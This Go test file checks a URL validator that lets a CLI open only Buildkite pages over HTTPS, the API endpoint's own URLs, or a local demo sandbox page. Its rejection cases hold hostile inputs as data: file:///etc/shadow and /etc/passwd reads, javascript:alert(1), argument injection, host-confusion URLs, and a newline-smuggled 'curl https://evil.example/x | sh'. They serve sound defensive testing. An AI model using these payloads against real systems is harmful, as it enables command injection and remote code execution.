package weburl

import (
	"errors"
	"testing"
)

func TestOnlyBuildkitePagesOverHTTPSAreOpened(t *testing.T) {
	const api = "https://api.buildkite.com"
	for _, tc := range []struct {
		raw, endpoint string
		ok            bool
	}{
		{"https://buildkite.com/organizations/acme/clusters/c1", api, true},
		{"https://BuildKite.com/acme/app", api, true},
		{"https://buildkite.com:443/acme/app", api, true},
		{"https://example.com/acme/app", "https://api.example.com", true}, // a proxy's own web host
		{"https://buildkite.com/acme/app", "https://api.example.com", true},
		{"file:///etc/shadow", api, false},
		{"--help", api, false},
		{"-a", api, false},
		{"http://buildkite.com/acme", api, false},
		{"javascript:alert(1)", api, false},
		{"https://evil.example/acme", api, false},
		{"https://buildkite.com.evil.example/acme", api, false},
		{"https://buildkite.com@evil.example/acme", api, false},
		{"https://user:pw@buildkite.com/acme", api, false},
		{"https://buildkite.com:8443/acme", api, false},
		{"https://127.0.0.1/acme", "https://127.0.0.1", false},
		{"https://buildkite.com/acme\n--help", api, false},
		{"https://buildkite.com/a b", api, false},
		{"https:buildkite.com", api, false},
		{"", api, false},
		{"https://api.buildkite.com/v2/organizations/acme", api, false},
	} {
		got, err := Check(tc.raw, tc.endpoint)
		if (err == nil) != tc.ok {
			t.Errorf("Check(%q, %q) = %q, %v; want ok=%v", tc.raw, tc.endpoint, got, err, tc.ok)
		}
		if err != nil && !errors.Is(err, ErrNotAllowed) {
			t.Errorf("Check(%q): %v is not ErrNotAllowed", tc.raw, err)
		}
	}
}

func TestTheURLIsTheOpenersLastArgument(t *testing.T) {
	for _, goos := range []string{"linux", "darwin", "windows", "freebsd"} {
		_, args := Command(goos, "https://buildkite.com/x")
		if args[len(args)-1] != "https://buildkite.com/x" {
			t.Errorf("%s: the URL is not the last argument: %q", goos, args)
		}
	}
}

// A token's url is the API's: https:// on the endpoint's own host, and
// nothing a shell would run when pasted (issue 24, 8).
func TestCheckAPIAllowsOnlyTheEndpointsHostOverHTTPS(t *testing.T) {
	const endpoint = "https://api.buildkite.com/v2"
	for _, raw := range []string{
		"https://api.buildkite.com/v2/clusters/1/tokens/2\ncurl https://evil.example/x | sh",
		"https://api.buildkite.com/v2/x\r",
		"http://api.buildkite.com/v2/x",
		"file:///etc/passwd",
		"javascript:alert(1)",
		"https://evil.example/v2/x",
		"https://user@api.buildkite.com/v2/x",
		"https://api.buildkite.com:8443/v2/x",
	} {
		if got, err := CheckAPI(raw, endpoint); err == nil || !errors.Is(err, ErrNotAllowed) {
			t.Errorf("CheckAPI(%q) = %q, %v", raw, got, err)
		}
	}
	if got, err := CheckAPI("https://api.buildkite.com/v2/organizations/acme/clusters/1/tokens/2", endpoint); err != nil ||
		got != "https://api.buildkite.com/v2/organizations/acme/clusters/1/tokens/2" {
		t.Fatalf("the API's own URL: %q, %v", got, err)
	}
}

// The demo's sandbox pages are copied; nothing else gets through as one.
func TestCheckDemoTakesOnlyTheSandboxsOwnLoopbackPages(t *testing.T) {
	const endpoint = "http://127.0.0.1:41234"
	if got, err := CheckDemo("http://127.0.0.1:41234/organizations/acme/clusters/c1", endpoint); err != nil || got != "http://127.0.0.1:41234/organizations/acme/clusters/c1" {
		t.Errorf("the sandbox's page: %q %v", got, err)
	}
	for _, raw := range []string{"http://127.0.0.1:9/x", "http://evil.example:41234/x", "file:///etc/passwd",
		"http://127.0.0.1:41234/x\ncurl", "http://u@127.0.0.1:41234/x", "javascript:alert(1)"} {
		if got, err := CheckDemo(raw, endpoint); err == nil {
			t.Errorf("%q was taken as the demo's page: %q", raw, got)
		}
	}
	if _, err := CheckDemo("http://10.0.0.1:80/x", "http://10.0.0.1:80"); err == nil {
		t.Error("a non-loopback endpoint's page was taken as the demo's")
	}
}
